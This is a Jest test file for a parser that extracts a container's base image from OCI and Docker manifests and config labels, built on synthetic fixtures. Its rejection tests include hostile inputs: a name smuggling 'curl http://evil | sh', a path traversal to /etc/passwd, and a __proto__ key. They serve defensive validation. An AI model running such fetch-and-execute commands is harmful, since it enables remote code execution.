import { createHash } from 'crypto';
import {
  BaseImageAnnotation,
  BaseImageDigestConflictError,
  baseImageFromManifest,
  InvalidBaseImageAnnotationError,
  InvalidImageConfigError,
  InvalidManifestError,
  MAX_MANIFEST_BYTES,
  ManifestMediaType,
  NoBaseImageReason,
  readBaseImage,
  UnsupportedManifestError,
} from '../../lambdas/domain/oci-base-image';
import { InvalidImageReferenceError } from '../../lambdas/domain/image-ref';

/** Digests in these fixtures are sha256 of a label: well formed, and plainly not any real image's digest. */
function digestOf(label: string): string {
  return `sha256:${createHash('sha256').update(label).digest('hex')}`;
}

const ALPINE_DIGEST = digestOf('alpine:3.20 manifest');
const DEBIAN_DIGEST = digestOf('debian:bookworm-slim manifest');

/**
 * Shaped like the image manifest BuildKit pushes for
 *   docker buildx build --push \
 *     --annotation "org.opencontainers.image.base.name=docker.io/library/alpine:3.20" \
 *     --annotation "org.opencontainers.image.base.digest=<digest>" .
 * (annotations without a `manifest:` / `index:` prefix go on the manifest).
 */
const BUILDKIT_MANIFEST = {
  schemaVersion: 2,
  mediaType: 'application/vnd.oci.image.manifest.v1+json',
  config: { mediaType: 'application/vnd.oci.image.config.v1+json', digest: digestOf('config'), size: 1471 },
  layers: [
    { mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip', digest: digestOf('layer 0'), size: 3623807 },
    { mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip', digest: digestOf('layer 1'), size: 1024 },
  ],
  annotations: {
    'org.opencontainers.image.base.digest': ALPINE_DIGEST,
    'org.opencontainers.image.base.name': 'docker.io/library/alpine:3.20',
    'org.opencontainers.image.source': 'https://github.com/acme/payments.git',
  },
};

/** `docker buildx build --platform linux/amd64,linux/arm64 --annotation "index:…"`: the index carries them, plus attestations. */
const BUILDKIT_INDEX = {
  schemaVersion: 2,
  mediaType: 'application/vnd.oci.image.index.v1+json',
  manifests: [
    {
      mediaType: 'application/vnd.oci.image.manifest.v1+json',
      digest: digestOf('amd64 manifest'),
      size: 1051,
      platform: { architecture: 'amd64', os: 'linux' },
    },
    {
      mediaType: 'application/vnd.oci.image.manifest.v1+json',
      digest: digestOf('arm64 manifest'),
      size: 1051,
      platform: { architecture: 'arm64', os: 'linux' },
    },
    {
      mediaType: 'application/vnd.oci.image.manifest.v1+json',
      digest: digestOf('attestation'),
      size: 566,
      annotations: { 'vnd.docker.reference.digest': digestOf('amd64 manifest'), 'vnd.docker.reference.type': 'attestation-manifest' },
      platform: { architecture: 'unknown', os: 'unknown' },
    },
  ],
  annotations: {
    'org.opencontainers.image.base.name': 'docker.io/library/debian:bookworm-slim',
    'org.opencontainers.image.base.digest': DEBIAN_DIGEST,
  },
};

/** What `docker build` (classic builder) pushes: a Docker v2 manifest, which has no annotations. */
const DOCKER_V2_MANIFEST = {
  schemaVersion: 2,
  mediaType: 'application/vnd.docker.distribution.manifest.v2+json',
  config: { mediaType: 'application/vnd.docker.container.image.v1+json', size: 7023, digest: digestOf('docker config') },
  layers: [{ mediaType: 'application/vnd.docker.image.rootfs.diff.tar.gzip', size: 29126484, digest: digestOf('docker layer') }],
};

/** Its config, with the base declared by `LABEL org.opencontainers.image.base.name=… org.opencontainers.image.base.digest=…`. */
const DOCKER_CONFIG_WITH_LABELS = {
  architecture: 'amd64',
  config: {
    Env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', 'LANG=C.UTF-8'],
    Cmd: ['python3'],
    WorkingDir: '/app',
    Labels: {
      'org.opencontainers.image.base.digest': DEBIAN_DIGEST,
      'org.opencontainers.image.base.name': 'debian:bookworm-slim',
      maintainer: 'platform-team',
    },
    OnBuild: null,
  },
  created: '2025-06-03T10:12:44.318Z',
  history: [
    { created: '2025-05-20T00:00:00Z', created_by: '# debian.sh --arch amd64 out/ bookworm @1747699200' },
    { created: '2025-06-03T10:12:44.318Z', created_by: 'LABEL org.opencontainers.image.base.name=debian:bookworm-slim', empty_layer: true },
  ],
  os: 'linux',
  rootfs: { type: 'layers', diff_ids: [digestOf('diff 0')] },
};

const CONFIG_WITHOUT_LABELS = { ...DOCKER_CONFIG_WITH_LABELS, config: { ...DOCKER_CONFIG_WITH_LABELS.config, Labels: null } };

function withAnnotations(annotations: Record<string, unknown>): unknown {
  return { ...structuredClone(BUILDKIT_MANIFEST), annotations };
}

function captureError(fn: () => unknown): Error {
  try {
    fn();
  } catch (error) {
    return error as Error;
  }
  throw new Error('expected an error, none was thrown');
}

describe('Function: baseImageFromManifest', () => {
  it('reads the base image from BuildKit manifest annotations', () => {
    expect(baseImageFromManifest(structuredClone(BUILDKIT_MANIFEST))).toEqual({
      name: 'docker.io/library/alpine:3.20',
      image: 'alpine:3.20',
      digest: ALPINE_DIGEST,
      source: 'annotation',
    });
  });

  it('reads the raw JSON text of a manifest', () => {
    expect(baseImageFromManifest(JSON.stringify(BUILDKIT_MANIFEST))?.image).toBe('alpine:3.20');
  });

  it('reads an OCI manifest without mediaType by its shape', () => {
    const manifest = structuredClone(BUILDKIT_MANIFEST) as Partial<typeof BUILDKIT_MANIFEST>;
    delete manifest.mediaType;
    expect(baseImageFromManifest(manifest)?.digest).toBe(ALPINE_DIGEST);
  });

  it('reads config labels when the manifest has no annotations', () => {
    expect(baseImageFromManifest(structuredClone(DOCKER_V2_MANIFEST), structuredClone(DOCKER_CONFIG_WITH_LABELS))).toEqual({
      name: 'debian:bookworm-slim',
      image: 'debian:bookworm-slim',
      digest: DEBIAN_DIGEST,
      source: 'label',
    });
  });

  it('prefers manifest annotations over config labels, without mixing them', () => {
    const manifest = withAnnotations({ [BaseImageAnnotation.NAME]: 'ghcr.io/acme/base:2' });
    expect(baseImageFromManifest(manifest, structuredClone(DOCKER_CONFIG_WITH_LABELS))).toEqual({
      name: 'ghcr.io/acme/base:2',
      image: 'ghcr.io/acme/base:2',
      source: 'annotation',
    });
  });

  it('falls back to labels when the annotations are empty strings', () => {
    const manifest = withAnnotations({ [BaseImageAnnotation.NAME]: '', [BaseImageAnnotation.DIGEST]: '' });
    expect(baseImageFromManifest(manifest, structuredClone(DOCKER_CONFIG_WITH_LABELS))?.source).toBe('label');
  });

  it('reads a digest-only declaration', () => {
    expect(baseImageFromManifest(withAnnotations({ [BaseImageAnnotation.DIGEST]: ALPINE_DIGEST }))).toEqual({
      digest: ALPINE_DIGEST,
      source: 'annotation',
    });
  });

  it('takes the digest from a digest-pinned name', () => {
    const result = baseImageFromManifest(withAnnotations({ [BaseImageAnnotation.NAME]: `alpine:3.20@${ALPINE_DIGEST}` }));
    expect(result).toEqual({ name: `alpine:3.20@${ALPINE_DIGEST}`, image: 'alpine:3.20', digest: ALPINE_DIGEST, source: 'annotation' });
    const pinnedOnly = baseImageFromManifest(withAnnotations({ [BaseImageAnnotation.NAME]: `quay.io/acme/base@${ALPINE_DIGEST}` }));
    expect(pinnedOnly?.image).toBe(`quay.io/acme/base@${ALPINE_DIGEST}`);
  });

  it('reads the annotations of an image index', () => {
    expect(baseImageFromManifest(structuredClone(BUILDKIT_INDEX))).toEqual({
      name: 'docker.io/library/debian:bookworm-slim',
      image: 'debian:bookworm-slim',
      digest: DEBIAN_DIGEST,
      source: 'annotation',
    });
  });

  it('returns undefined when nothing declares a base image', () => {
    expect(baseImageFromManifest(structuredClone(DOCKER_V2_MANIFEST))).toBeUndefined();
    expect(baseImageFromManifest(structuredClone(DOCKER_V2_MANIFEST), structuredClone(CONFIG_WITHOUT_LABELS))).toBeUndefined();
  });

  it('ignores a __proto__ key in hostile JSON', () => {
    const text = `{"schemaVersion":2,"mediaType":"${ManifestMediaType.OCI_MANIFEST}","config":${JSON.stringify(BUILDKIT_MANIFEST.config)},"layers":[],"annotations":{"__proto__":{"${BaseImageAnnotation.NAME}":"evil:1"}}}`;
    expect(baseImageFromManifest(text)).toBeUndefined();
  });

  describe('refusals', () => {
    it.each([
      ['whitespace and shell', 'alpine:3.20; curl http://evil | sh'],
      ['upper case repository', 'Alpine:3.20'],
      ['path traversal', '../../etc/passwd'],
      ['a bad tag', 'alpine:-3.20'],
      ['a huge string', `a${'b'.repeat(10_000)}:1`],
    ])('refuses a base name with %s', (_label, name) => {
      const error = captureError(() => baseImageFromManifest(withAnnotations({ [BaseImageAnnotation.NAME]: name })));
      expect(error).toBeInstanceOf(InvalidBaseImageAnnotationError);
      expect(error).toMatchObject({ code: 'INVALID_BASE_IMAGE_ANNOTATION', key: BaseImageAnnotation.NAME, source: 'annotation' });
      expect(error.message.length).toBeLessThan(400);
    });

    it('keeps the InvalidImageReferenceError as cause', () => {
      const error = captureError(() => baseImageFromManifest(withAnnotations({ [BaseImageAnnotation.NAME]: 'Alpine:3.20' })));
      expect(error.cause).toBeInstanceOf(InvalidImageReferenceError);
    });

    it.each([
      ['short hex', 'sha256:abc'],
      ['an unknown algorithm', `md5:${'a'.repeat(32)}`],
      ['upper-case hex', `sha256:${'A'.repeat(64)}`],
      ['a tag', 'latest'],
      ['a huge string', `sha256:${'a'.repeat(1_000_000)}`],
      ['a number', 42],
      ['an object', { digest: ALPINE_DIGEST }],
    ])('refuses a base digest that is %s', (_label, digest) => {
      const error = captureError(() => baseImageFromManifest(withAnnotations({ [BaseImageAnnotation.DIGEST]: digest })));
      expect(error).toBeInstanceOf(InvalidBaseImageAnnotationError);
      expect((error as InvalidBaseImageAnnotationError).key).toBe(BaseImageAnnotation.DIGEST);
    });

    it('refuses a bad label in the config, naming the label source', () => {
      const config = structuredClone(DOCKER_CONFIG_WITH_LABELS);
      config.config.Labels[BaseImageAnnotation.NAME] = 'debian:bookworm slim';
      const error = captureError(() => baseImageFromManifest(structuredClone(DOCKER_V2_MANIFEST), config));
      expect(error).toBeInstanceOf(InvalidBaseImageAnnotationError);
      expect(error.message).toMatch(/^label org\.opencontainers\.image\.base\.name refused/);
    });

    it('refuses a name pinned to another digest than the digest annotation', () => {
      const error = captureError(() =>
        baseImageFromManifest(
          withAnnotations({ [BaseImageAnnotation.NAME]: `alpine:3.20@${DEBIAN_DIGEST}`, [BaseImageAnnotation.DIGEST]: ALPINE_DIGEST }),
        ),
      );
      expect(error).toBeInstanceOf(BaseImageDigestConflictError);
      expect(error).toMatchObject({ code: 'BASE_IMAGE_DIGEST_CONFLICT', digest: ALPINE_DIGEST });
    });

    it('refuses a manifest larger than the registry limit', () => {
      const huge = JSON.stringify({ ...BUILDKIT_MANIFEST, padding: 'x'.repeat(MAX_MANIFEST_BYTES) });
      const error = captureError(() => baseImageFromManifest(huge));
      expect(error).toBeInstanceOf(InvalidManifestError);
      expect(error.message).toContain(`more than the ${MAX_MANIFEST_BYTES} allowed`);
    });

    it.each([
      ['text that is not JSON', '{"schemaVersion": 2,', /not JSON/],
      ['an array', [], /not a JSON object/],
      ['null', null, /not a JSON object/],
      ['schemaVersion 1 without mediaType', { schemaVersion: 1, name: 'library/alpine', tag: '3.20', fsLayers: [] }, /schemaVersion/],
      ['a manifest without config', { schemaVersion: 2, mediaType: ManifestMediaType.OCI_MANIFEST, layers: [] }, /config/],
      ['a config digest that is not a digest', { ...BUILDKIT_MANIFEST, config: { mediaType: 'x', digest: 'nope' } }, /config\.digest/],
      ['annotations that are not an object', { ...BUILDKIT_MANIFEST, annotations: ['a'] }, /annotations/],
    ])('refuses %s with InvalidManifestError', (_label, manifest, pattern) => {
      const error = captureError(() => baseImageFromManifest(manifest));
      expect(error).toBeInstanceOf(InvalidManifestError);
      expect(error).toMatchObject({ name: 'InvalidManifestError', code: 'INVALID_MANIFEST' });
      expect(error.message).toMatch(pattern);
    });

    it.each([
      ['Docker schema 1', 'application/vnd.docker.distribution.manifest.v1+prettyjws'],
      ['an OCI artifact manifest', 'application/vnd.oci.artifact.manifest.v1+json'],
    ])('refuses %s with UnsupportedManifestError', (_label, mediaType) => {
      const error = captureError(() => baseImageFromManifest({ ...BUILDKIT_MANIFEST, mediaType }));
      expect(error).toBeInstanceOf(UnsupportedManifestError);
      expect((error as UnsupportedManifestError).mediaType).toBe(mediaType);
    });

    it('refuses a config whose Labels is not an object', () => {
      const config = { ...DOCKER_CONFIG_WITH_LABELS, config: { Labels: 'org.opencontainers.image.base.name=alpine' } };
      const error = captureError(() => baseImageFromManifest(structuredClone(DOCKER_V2_MANIFEST), config));
      expect(error).toBeInstanceOf(InvalidImageConfigError);
      expect(error.message).toMatch(/config\.Labels/);
    });
  });
});

describe('Function: readBaseImage', () => {
  it('says an index without annotations must be resolved to a platform manifest', () => {
    const index = structuredClone(BUILDKIT_INDEX) as Partial<typeof BUILDKIT_INDEX>;
    delete index.annotations;
    expect(readBaseImage(index)).toEqual({ found: false, reason: NoBaseImageReason.INDEX, mediaType: ManifestMediaType.OCI_INDEX });
  });

  it('recognises a Docker manifest list', () => {
    const list = {
      schemaVersion: 2,
      mediaType: ManifestMediaType.DOCKER_MANIFEST_LIST,
      manifests: [
        {
          mediaType: ManifestMediaType.DOCKER_MANIFEST,
          size: 529,
          digest: digestOf('list amd64'),
          platform: { architecture: 'amd64', os: 'linux' },
        },
      ],
    };
    expect(readBaseImage(list)).toEqual({ found: false, reason: NoBaseImageReason.INDEX, mediaType: ManifestMediaType.DOCKER_MANIFEST_LIST });
  });

  it('recognises an index without mediaType by its manifests', () => {
    const index = structuredClone(BUILDKIT_INDEX) as Partial<typeof BUILDKIT_INDEX>;
    delete index.mediaType;
    delete index.annotations;
    expect(readBaseImage(index)).toEqual({ found: false, reason: NoBaseImageReason.INDEX });
  });

  it('says a config is needed when the manifest has no annotations', () => {
    expect(readBaseImage(structuredClone(DOCKER_V2_MANIFEST))).toMatchObject({ found: false, reason: NoBaseImageReason.CONFIG_NOT_GIVEN });
  });

  it('says nothing is declared when neither manifest nor config declares a base', () => {
    expect(readBaseImage(structuredClone(DOCKER_V2_MANIFEST), JSON.stringify(CONFIG_WITHOUT_LABELS))).toEqual({
      found: false,
      reason: NoBaseImageReason.NOT_DECLARED,
      mediaType: ManifestMediaType.DOCKER_MANIFEST,
    });
  });

  it('returns the media type with what it found', () => {
    expect(readBaseImage(structuredClone(BUILDKIT_MANIFEST))).toMatchObject({ found: true, mediaType: ManifestMediaType.OCI_MANIFEST });
  });
});
